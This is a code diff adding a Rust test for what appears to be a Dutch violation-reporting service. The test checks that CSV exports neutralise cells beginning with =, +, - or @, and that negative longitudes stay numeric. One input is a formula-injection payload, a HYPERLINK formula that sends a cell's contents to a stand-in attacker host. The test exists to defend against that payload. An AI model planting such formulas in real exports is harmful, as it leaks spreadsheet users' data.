@@ -440,3 +440,76 @@ async fn security_headers_on_the_page_and_every_answer(b: Backend) {
 }
 
 both!(security_headers_on_the_page_and_every_answer);
+
+/// A CSV export opens in Excel: a description (or any text cell) that starts with `=`, `+`, `-`
+/// or `@` would run as a formula there, so it is written with a leading `'`; numbers such as a
+/// negative longitude stay numbers.
+async fn csv_text_that_looks_like_a_formula_opens_as_text(b: Backend) {
+    let app = TestApp::spawn(b).await;
+    app.demo_accounts().await;
+    let hh = app.login("handhaver", "phone-1").await;
+    let lead = app.login("teamleider", "pc").await;
+    let texts = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik hier\")",
+        "+31612345678 belde de melding in",
+        "-5 zakken naast de container",
+        "@SUM(1+1)",
+        "Gewone omschrijving, a=b",
+    ];
+    let mut ids = Vec::new();
+    for (i, text) in texts.iter().enumerate() {
+        let id = uuid::Uuid::new_v4();
+        let mut r = thor_tests::report(id);
+        r["description"] = serde_json::json!(text);
+        if i == texts.len() - 1 {
+            // West of Greenwich: a negative longitude, which must stay a number.
+            r["location"]["lon"] = serde_json::json!(-4.6);
+        }
+        let res = app
+            .post(&hh, "/api/v1/violations", &r)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), 201);
+        ids.push(id.to_string());
+    }
+    let today = thor::demo::today();
+    let res = app
+        .get(
+            &lead,
+            &format!("/api/v1/exports/violations.csv?from={today}"),
+        )
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 200);
+    let body = res.text().await.unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+    let head = reader.headers().unwrap().clone();
+    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
+    let (id_col, text_col, lon_col) = (col("id"), col("omschrijving"), col("lon"));
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    for (id, text) in ids.iter().zip(texts) {
+        let row = rows
+            .iter()
+            .find(|r| &r[id_col] == id)
+            .unwrap_or_else(|| panic!("{id} exported"));
+        let want = if text.starts_with(['=', '+', '-', '@']) {
+            format!("'{text}")
+        } else {
+            text.to_string()
+        };
+        assert_eq!(&row[text_col], want, "{text}");
+        assert!(
+            !row.iter().any(|c| c.starts_with(['=', '+', '@'])),
+            "{row:?}"
+        );
+    }
+    let west = rows.iter().find(|r| r[id_col] == ids[4]).unwrap();
+    assert_eq!(&west[lon_col], "-4,600000", "a number stays a number");
+    app.stop().await;
+}
+
+both!(csv_text_that_looks_like_a_formula_opens_as_text);
